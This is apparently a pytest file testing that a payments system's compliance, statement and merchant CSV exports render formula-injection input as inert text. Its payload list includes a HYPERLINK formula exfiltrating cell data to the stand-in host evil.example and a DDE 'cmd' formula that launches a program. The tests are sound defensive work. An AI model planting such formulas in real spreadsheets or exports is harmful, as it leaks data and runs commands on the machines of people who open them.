"""Outside review: text from outside (a party's legal name, a counterparty, a movement's description, a report cell)
reaches the CSVs officers, merchants and customers open in a spreadsheet only as text, never as a formula.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) runs as a formula in Excel, LibreOffice
and Google Sheets (``=HYPERLINK(...)`` leaks the sheet, ``=cmd|...`` ran commands); such a cell is written with a
leading apostrophe. Numbers (``-100.00``) stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from cryptopay.core.compliance.cases import Case
from cryptopay.core.compliance.reports import Reporter, StrReport, str_csv
from cryptopay.core.compliance.rules import Direction, Movement
from cryptopay.core.money import Money
from cryptopay.core.reports.service import Report
from cryptopay.core.wallets.history import HistoryLine, statement_csv

AT = datetime(2026, 12, 1, 9, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, planted: str) -> None:
    cells = _cells(text)
    assert "'" + planted in cells, cells  # still there, readable, as text
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), cells
    assert not any(c.startswith("-") and not c[1:].replace(".", "", 1).isdigit() for c in cells), cells


@pytest.mark.parametrize("planted", FORMULAS)
def test_a_party_s_name_and_counterparty_in_an_str_csv_are_text(planted: str):
    case = Case(id="case_1", party_id="usr_1", alert_ids=("alr_1",), created_at=AT, deadline=AT)
    movement = Movement(
        id="mov_1",
        party_id="usr_1",
        product="p2p",
        direction=Direction.OUT,
        amount=Money.of("-100", "KES"),
        at=AT,
        counterparty=planted,
    )
    reporter = Reporter(rentity_id="R1", officer_name="Ann", officer_email="ann@example.co.ke")
    report = StrReport(
        reporter=reporter, case=case, alerts=(), movements=(movement,), party_name=planted, submitted_at=AT
    )
    text = str_csv(report)
    _assert_inert(text, planted)
    assert "-100.00" in _cells(text)


@pytest.mark.parametrize("planted", FORMULAS)
def test_a_statement_s_description_is_text(planted: str):
    line = HistoryLine("ent_1", AT, Money.of("-10", "KES"), Money.of("90", "KES"), "p2p", planted, "trf_1")
    text = statement_csv([line])
    _assert_inert(text, planted)
    assert "-10.00" in _cells(text)


@pytest.mark.parametrize("planted", FORMULAS)
def test_a_merchant_report_s_cells_are_text(planted: str):
    report = Report(
        "sales",
        "mer_1",
        "month",
        AT.date(),
        AT.date(),
        ("reference", "amount"),
        ({"reference": planted, "amount": "-5.00"},),
        (),
    )
    text = report.as_csv()
    _assert_inert(text, planted)
    assert "-5.00" in _cells(text)
